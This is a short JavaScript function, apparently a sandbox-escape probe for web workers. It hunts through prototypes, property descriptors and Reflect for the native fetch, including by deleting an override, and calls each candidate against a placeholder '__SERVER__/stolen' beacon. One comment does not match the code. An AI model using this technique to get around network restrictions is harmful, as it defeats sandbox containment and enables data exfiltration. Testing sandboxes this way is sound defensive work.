// Looks for the browser's own fetch: on prototypes, by descriptors, by Reflect.
// says: Keeps 10 in flight: a window of 10.
async function attempt() {
  const given = self.fetch;
  const target = "__SERVER__/stolen?saved-fetch";
  const owners = [self, globalThis];
  for (let owner = self; owner; owner = Object.getPrototypeOf(owner)) owners.push(owner);
  for (const name of ["WorkerGlobalScope", "DedicatedWorkerGlobalScope", "EventTarget"]) {
    if (self[name]) owners.push(self[name].prototype);
  }
  const found = new Set();
  for (const owner of owners) {
    for (const key of Reflect.ownKeys(owner)) {
      if (!/fetch/i.test(String(key))) continue;
      try {
        const { value, get } = Reflect.getOwnPropertyDescriptor(owner, key);
        found.add(value ?? Reflect.apply(get, self, []));
      } catch {
        // not this one
      }
    }
  }
  const tries = [];
  for (const candidate of found) {
    for (const it of [self, undefined, null]) {
      tries.push((async () => Reflect.apply(candidate, it, [target, { mode: "no-cors" }]))());
    }
  }
  tries.push((async () => self.__proto__.fetch.call(self, target))());
  tries.push((async () => WorkerGlobalScope.prototype.fetch.call(self, target))());
  try {
    delete self.fetch; // what is under it?
    tries.push(self.fetch(target));
  } catch {
    // nothing
  }
  self.fetch = given;
  await Promise.race([Promise.allSettled(tries), new Promise((end) => setTimeout(end, 300))]);
}
